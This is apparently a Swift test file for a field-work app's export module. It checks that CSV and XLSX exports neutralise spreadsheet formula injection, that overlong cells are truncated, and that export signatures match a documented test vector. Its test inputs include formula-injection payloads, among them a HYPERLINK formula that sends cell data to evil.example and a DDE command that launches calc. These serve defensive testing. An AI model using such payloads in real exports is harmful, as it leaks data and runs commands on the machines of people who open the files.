import FieldCrypto
import FieldLedger
import FieldStore
import Foundation
import Testing

@testable import FieldExport

/// What a supervisor opens must be what was typed, and nothing else: no cell of the CSV runs as a
/// formula, no workbook cell is past what Excel holds, and a signature verifies as documented.
@Suite struct ExportSafetyTests {
    /// Texts that a spreadsheet would take for formulas (the review's inputs): a HYPERLINK that sends
    /// another cell away, a DDE-style command, and each trigger character OWASP names.
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "\t=1+1", "\r=1+1", "=1+1",
    ]

    /// Runs a Python script on `arguments` and returns its standard output (the independent readers).
    static func python(_ script: String, _ arguments: [String]) throws -> Data {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script] + arguments
        let output = Pipe()
        let errors = Pipe()
        process.standardOutput = output
        process.standardError = errors
        try process.run()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        let stderr = String(decoding: errors.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        try #require(process.terminationStatus == 0, "python3 failed (openpyxl is installed by `make test`): \(stderr)")
        return data
    }

    /// Writes `table` as a workbook and returns, as JSON, what openpyxl reads of its first sheet
    /// with the Python expression `expression` (over `sheet`).
    static func readWorkbook(_ table: ReportTable, _ expression: String) throws -> Data {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("t.xlsx").path
        try Data(try XLSXWriter.write([table], title: "t")).write(to: URL(fileURLWithPath: path))
        return try python(
            """
            import json, sys, openpyxl
            sheet = openpyxl.load_workbook(sys.argv[1]).worksheets[0]
            print(json.dumps(\(expression), ensure_ascii=False))
            """,
            [path]
        )
    }

    static func temporaryFolder() throws -> URL {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent(
            "fieldlog-export-\(UUID().uuidString)"
        )
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        return folder
    }

    /// The work ledger of a county whose cadre typed formulas into a demand, whose department
    /// answered with one, and whose registry names an enterprise and a contact like one.
    @Test func csvCellsThatBeginLikeFormulasAreNeutralised() throws {
        var rows: [[ReportCell]] = Self.hostile.map { [.text($0), .number(-3), .text("正常文字")] }
        rows.append([.text("a=b"), .number(-0.5), .text(" =1")])
        let table = ReportTable(name: "t", headers: ["内容", "数", "备注"], rows: rows)
        let csv = String(decoding: CSVWriter.write([table]).dropFirst(3), as: UTF8.self)
        let folder = try Self.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("t.csv").path
        try Data(CSVWriter.write([table])).write(to: URL(fileURLWithPath: path))
        // Python's csv module reads the fields back as a spreadsheet would receive them.
        let read = try Self.python(
            """
            import csv, json, sys
            with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
                print(json.dumps(list(csv.reader(f)), ensure_ascii=False))
            """,
            [path]
        )
        let fields = try #require(try JSONSerialization.jsonObject(with: read) as? [[String]])
        #expect(fields.count == Self.hostile.count + 2, "\(csv)")
        for (index, text) in Self.hostile.enumerated() {
            #expect(fields[index + 1][0] == "'" + text, "a formula-like cell is neutralised: \(text)")
            #expect(fields[index + 1][1] == "-3", "numbers are ours and stay numbers")
        }
        #expect(fields.last == ["a=b", "-0.50", " =1"], "text that does not begin like a formula is untouched")
        // A cadre's demand in the work ledger the supervisor exports.
        let county = try County()
        let cadre = try county.cadreLedger("王强")
        _ = try cadre.addDemand(DemandInput(enterprise: "高唐纺织有限公司", title: "@标题", content: Self.hostile[0]))
        try county.exchange(from: cadre, to: county.operatorLedger)
        let work = try county.operatorLedger.workLedger(today: Day("2026-03-31")!)
        let column = try #require(work.headers.firstIndex(of: "诉求内容"))
        #expect(work.rows.first?[column] == .text(Self.hostile[0]))
        let exported = String(decoding: CSVWriter.write([work]), as: UTF8.self)
        #expect(exported.contains(",\"'=HYPERLINK(\"\"http://evil.example"), "\(exported)")
        #expect(!exported.contains(",\"=HYPERLINK") && !exported.contains(",=HYPERLINK"))
    }

    /// The workbook keeps the typed text as it is, as inline strings, never formulas: openpyxl reads
    /// each as a string cell with exactly the typed value.
    @Test func xlsxKeepsFormulaLikeTextAsPlainStrings() throws {
        let table = ReportTable(name: "t", headers: ["内容"], rows: Self.hostile.map { [.text($0)] })
        let read = try Self.readWorkbook(table, "[[c.data_type, c.value] for c in sheet[\"A\"]][1:]")
        let cells = try #require(try JSONSerialization.jsonObject(with: read) as? [[String]])
        #expect(
            cells.map { $0[0] } == Array(repeating: "s", count: Self.hostile.count),
            "string cells, not formulas (f)"
        )
        #expect(cells.map { $0[1] } == Self.hostile)
    }

    /// A cell longer than Excel's 32,767 characters is cut to fit in the workbook, saying so; the
    /// CSV and the JSON keep the whole text.
    @Test func xlsxCellsPastExcelsLimitAreCutAndSaySo() throws {
        let long = String(repeating: "诉求内容很长。", count: 6_000) + "😀尾"
        let table = ReportTable(name: "t", headers: ["内容"], rows: [[.text(long)], [.text("短")]])
        let read = try Self.readWorkbook(table, "[sheet[\"A2\"].value, sheet[\"A3\"].value]")
        let values = try #require(try JSONSerialization.jsonObject(with: read) as? [String])
        #expect(values[0].utf16.count <= XLSXWriter.maxCellLength)
        #expect(values[0].utf16.count > XLSXWriter.maxCellLength - 100)
        #expect(values[0].hasSuffix(XLSXWriter.truncationNote))
        #expect(long.hasPrefix(String(values[0].dropLast(XLSXWriter.truncationNote.count))))
        #expect(values[1] == "短")
        let csv = String(decoding: CSVWriter.write([table]).dropFirst(3), as: UTF8.self)
        #expect(csv.contains(long))
        let json = String(
            decoding: try JSONWriter.write([table], title: "t", generatedAt: "2026-12-01T00:00:00.000Z"),
            as: UTF8.self
        )
        #expect(json.contains(long))
    }

    /// The signed message of docs/exports.md, byte for byte: a verifier written from the doc
    /// (here, Python's hashlib and cryptography computed these values) accepts what fieldlog signs.
    @Test func theExportSignatureMatchesTheDocumentedVector() throws {
        let key = try SigningKey(seed: Array(0..<32))
        let file: [UInt8] = [0xEF, 0xBB, 0xBF] + Array("序号\r\n1\r\n".utf8)
        let heads = [FeedHead(author: key.publicKey.hex, scope: "registry", head: 3)]
        let signature = ExportSignature.sign(
            file: file,
            name: "工作台账.csv",
            key: key,
            signerName: "督查室",
            heads: heads,
            signedAt: "2026-12-01T00:00:00.000Z"
        )
        let vector = (
            signer: "03a107bff3ce10be1d70dd18e74bc09967e4d6309ba50d5f1ddc8664125531b8",
            file: "2b55d06fc901d27273d4e387b0ddbd971879cad8fb49349183fe8f9b80d51235",
            heads: "dff9dfa8d2256e5ff458c37a59576de37ee6779ddbcfab9df1b068e1c1a3e2ce",
            signature:
                "8dfa2b35683c1d55378046fb1c84c9440829d595e65396bce2099fd3f8e110ada810965d6748e8ce362e3c40bbb024cb865b24a9e1393360e964dd12b7a6d801"
        )
        #expect(signature.signer == vector.signer)
        #expect(signature.size == 14)
        #expect(signature.blake2b256 == vector.file)
        #expect(signature.headsDigest == vector.heads)
        #expect(signature.signature == vector.signature)
        let message = ExportSignature.message(
            hash: vector.file,
            size: 14,
            signedAt: "2026-12-01T00:00:00.000Z",
            signer: vector.signer,
            headsDigest: vector.heads
        )
        #expect(
            String(decoding: message, as: UTF8.self).hasSuffix("heads-blake2b256: \(vector.heads)\n"),
            "no final empty line"
        )
        // The document carries the same vector.
        let repository = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent()
        let doc = try String(contentsOf: repository.appendingPathComponent("docs/exports.md"), encoding: .utf8)
        for value in [vector.signer, vector.file, vector.heads, vector.signature] {
            #expect(doc.contains(value), "docs/exports.md shows \(value)")
        }
    }
}
